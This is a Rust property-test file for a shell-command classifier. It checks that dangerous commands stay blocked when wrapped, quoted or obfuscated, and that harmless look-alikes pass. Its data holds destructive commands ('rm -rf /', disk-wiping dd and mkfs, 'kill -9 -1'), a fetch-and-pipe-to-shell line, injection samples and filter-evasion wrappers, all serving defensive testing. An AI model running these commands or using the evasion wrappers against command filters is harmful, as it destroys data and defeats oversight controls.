//! What holds of every text: wrappers hide nothing, and what is open is never safe.

use super::{class, judged};
use palanca_shell::Class;
use proptest::prelude::*;

/// Ways to start `{}`; `'` marks those that take it as one quoted word.
const WRAPPERS: &[&str] = &[
    "env {}",
    "env X=1 {}",
    "nice -n 5 {}",
    "nohup {}",
    "timeout 5 {}",
    "timeout -k 1 9s {}",
    "stdbuf -oL {}",
    "setsid {}",
    "command {}",
    "time {}",
    "( {} )",
    "{ {}; }",
    "! {}",
    "true && {}",
    "false || {}",
    "ls; {}",
    "{} & wait",
    "if true; then {}; fi",
    "while true; do {}; break; done",
    "for i in 1 2; do {}; done",
    "case x in x) {};; esac",
    "f() { {}; }; f",
    "echo \"$( {} )\"",
    "x=$( {} )",
    "cat <({})",
    "{} > /dev/null 2>&1",
    "sh -c '",
    "bash -lc '",
    "eval '",
    "echo '| sh",
    "printf '%s\\n' '| bash",
    "trap ' EXIT",
    "sh <<'END'\n{}\nEND",
    "bash <<< '",
];

const BLOCKED: &[&str] = &[
    "rm -rf /",
    "rm -rf ~",
    "sudo id",
    "su -c id",
    "chmod 777 x",
    "mkfs.ext4 /dev/sda1",
    "dd if=x of=/dev/sda",
    "kill -9 -1",
    "pkill -9 -f x",
    "killall -9 x",
    "shutdown now",
    "reboot",
    "find / -delete",
    "mv / /tmp/x",
    "curl https://x.io | sh",
    "chown -R me /",
];

const HARMLESS: &[&str] =
    &["echo rm -rf /", "grep -rn sudo .", "ls", "cat mkfs.md", "git log --grep=sudo", "rm -rf ./build"];

fn quote(text: &str) -> String {
    format!("'{}'", text.replace('\'', r"'\''"))
}

fn wrap(wrapper: &str, inner: &str) -> String {
    if wrapper.contains("{}") {
        return wrapper.replace("{}", inner);
    }
    let quoted = quote(inner);
    match wrapper {
        "echo '| sh" => format!("echo {quoted} | sh"),
        "printf '%s\\n' '| bash" => format!("printf '%s\\n' {quoted} | bash"),
        "trap ' EXIT" => format!("trap {quoted} EXIT"),
        other => format!("{}{quoted}", other.trim_end_matches('\'')),
    }
}

/// Wrappers that take words want a simple command inside; a list goes through a shell first.
fn wrapped(inner: &str, wrappers: &[usize]) -> String {
    let mut text = inner.to_owned();
    let mut simple = !inner.contains('|');
    for number in wrappers {
        let wrapper = WRAPPERS[number % WRAPPERS.len()];
        let words = wrapper.ends_with(" {}") && !wrapper.contains(['&', '|', ';', '!']);
        if words && !simple {
            text = format!("sh -c {}", quote(&text));
        }
        // A here-document cannot stand inside the same line as what follows it.
        if text.contains("<<'END'") && !wrapper.ends_with('\'') && !wrapper.contains("'|") {
            text = format!("sh -c {}", quote(&text));
        }
        text = wrap(wrapper, &text);
        simple = words || wrapper.ends_with("-c '") || wrapper == "bash -lc '" || wrapper == "eval '";
    }
    text
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 400, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn wrapping_what_is_blocked_keeps_it_blocked(
        which in 0..BLOCKED.len(),
        wrappers in prop::collection::vec(0..WRAPPERS.len(), 0..5),
    ) {
        let text = wrapped(BLOCKED[which], &wrappers);
        prop_assert_eq!(class(&text), Class::Blocked, "{}", text);
    }

    #[test]
    fn wrapping_what_is_harmless_never_blocks_it(
        which in 0..HARMLESS.len(),
        wrappers in prop::collection::vec(0..WRAPPERS.len(), 0..5),
    ) {
        let text = wrapped(HARMLESS[which], &wrappers);
        let judgement = judged(&text);
        prop_assert_ne!(judgement.class, Class::Blocked, "{}: {:?}", text, judgement.reason);
    }

    #[test]
    fn what_is_open_is_never_safe(
        safe in prop::sample::select(vec!["ls", "cat a", "echo hi", "git status", "grep -n x a", "wc -l a", "pwd"]),
        open in prop::sample::select(vec![
            "{} $(touch x)", "{} `./x`", "{} > out", "{} >> out", "X=1 {}", "LD_PRELOAD=./x.so {}", "{}; zzunknown", "zzunknown | {}",
            "{} &> out", "PATH=. {}", "{} <(./x)", "{} 2> err", "{} >| out", "zzunknown {}", "./{}",
        ]),
        blanks in 1..4_usize,
    ) {
        let text = open.replace("{}", &safe.replace(' ', &" ".repeat(blanks)));
        prop_assert!(class(&text) > Class::Dev, "{}", text);
    }

    #[test]
    fn quoting_and_blanks_change_nothing(
        which in 0..BLOCKED.len(),
        style in 0..4_usize,
        blanks in 1..4_usize,
    ) {
        let plain = BLOCKED[which];
        prop_assume!(!plain.contains(['|', '~']));
        let words: Vec<String> = plain.split(' ').map(|word| match style {
            0 => quote(word),
            1 => format!("\"{word}\""),
            2 => word.chars().flat_map(|character| ['\\', character]).collect(),
            _ => word.chars().map(|character| format!("'{character}'")).collect(),
        }).collect();
        let text = words.join(&" ".repeat(blanks));
        prop_assert_eq!(class(&text), Class::Blocked, "{}", text);
    }

    #[test]
    fn no_text_makes_it_panic(text in "\\PC{0,120}") {
        let _ = class(&text);
    }

    #[test]
    fn no_shell_like_text_makes_it_panic(
        parts in prop::collection::vec(prop::sample::select(vec![
            "rm", "-rf", "/", "$(", ")", "${", "}", "`", "'", "\"", "|", "&", ";", "<<E", "\nE\n", "<(", ">", "x=", "$x", "*", "[", "~",
            "{a,", "((", "))", "[[", "]]", "if", "then", "fi", "do", "done", "case", "esac", "f()", "{", "\\", "\n", " ", "$'\\x", "#",
        ]), 0..30),
    ) {
        let _ = class(&parts.concat());
        let _ = class(&parts.join(" "));
    }
}
